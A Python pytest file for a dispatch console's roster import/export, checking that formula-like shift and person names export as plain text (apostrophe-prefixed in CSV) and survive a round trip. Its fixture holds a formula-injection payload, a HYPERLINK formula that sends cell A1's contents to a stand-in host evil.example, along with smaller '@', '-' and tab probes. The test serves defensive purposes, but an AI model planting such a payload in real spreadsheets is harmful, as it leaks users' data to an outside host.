"""A roster whose shift type or person is named like a formula exports as text and imports back unchanged.

A shift leader may name a shift type ``=HYPERLINK(…)``; a partner's personnel list may hold a
name starting with ``@`` or ``-`` and phones start with ``+``. In the exported xlsx these are
string cells (never formulas), in CSV they carry the apostrophe of the OWASP rule, and either file
imports back to the same roster, on both backends.
"""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from support.roster_fixtures import DAY, REQUIRED, duty_room

from db.engine import Database
from db.models import Person, PersonRole
from dispatch_console import rosters as roster
from dispatch_console.kernel.actor import Actor
from dispatch_console.rosters import files as roster_io

EVIL_SHIFT = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
NAMES = ("@SUM(1+1)", "-2+3", "\t制表符", "'引号")
PHONE = "+86 138 0000 0099"


@pytest.fixture
def formula_room(db: Database, system: Actor) -> dict[str, int]:
    duty_room(db, system)
    roster.define_shift_type(db, system, code="evil", name=EVIL_SHIFT, start_time="09:00", length_minutes=480,
                             required_roles=REQUIRED)
    people: dict[str, int] = {}
    with db.write() as s:
        for i, name in enumerate(NAMES):
            p = Person(name=name, phone=PHONE if i == 0 else f"1390000010{i}", active=True)
            s.add(p)
            s.flush()
            s.add(PersonRole(person_id=p.id, role="duty_officer"))
            people[name] = p.id
    return people


def _hand_written_csv(path: Path) -> Path:
    """The file as a partner sends it: the texts exactly as they are, no apostrophes."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["日期", "班次", "岗位", "姓名", "电话"])
        for i, name in enumerate(NAMES):
            w.writerow([DAY.isoformat(), EVIL_SHIFT, "值班员", name, PHONE if i == 0 else ""])
    return path


def _snapshot(db: Database) -> set[tuple[str, str, str, int]]:
    shifts = {sh.id: sh for sh in roster.shifts(db, DAY, DAY + timedelta(days=1))}
    return {(shifts[e.shift_id].day, shifts[e.shift_id].name, e.role, e.person_id)
            for e in roster.roster(db, DAY, DAY + timedelta(days=1))}


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_formula_like_cells_export_as_text_and_round_trip(db: Database, formula_room: dict[str, int],
                                                          leader: Actor, tmp_path: Path, suffix: str) -> None:
    first = roster_io.import_roster(db, leader, _hand_written_csv(tmp_path / "in.csv"))
    assert first.ok and first.stored == len(NAMES), first.rejected
    before = _snapshot(db)
    assert {name for _d, name, _r, _p in before} == {EVIL_SHIFT}

    out = tmp_path / f"out{suffix}"
    assert roster_io.export_roster(db, out, DAY, DAY) == len(NAMES)
    if suffix == ".xlsx":
        ws = openpyxl.load_workbook(out).active
        assert ws is not None
        cells = [c for row in ws.iter_rows(min_row=2) for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula
        assert {ws.cell(r, 2).value for r in range(2, ws.max_row + 1)} == {EVIL_SHIFT}
        assert {ws.cell(r, 4).value for r in range(2, ws.max_row + 1)} == set(NAMES)
    else:
        text = out.read_text(encoding="utf-8-sig")
        rows = list(csv.reader(text.splitlines()))[1:]
        assert {r[1] for r in rows} == {"'" + EVIL_SHIFT}
        assert {r[3] for r in rows} == {"'" + n for n in NAMES if n[0] != "'"} | {"'引号"}
        assert "'" + PHONE in {r[4] for r in rows}
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)

    for e in roster.roster(db, DAY, DAY):
        roster.remove(db, leader, e.id, e.version, "round trip")
    again = roster_io.import_roster(db, leader, out)
    assert again.ok and again.stored == len(NAMES), again.rejected
    assert _snapshot(db) == before
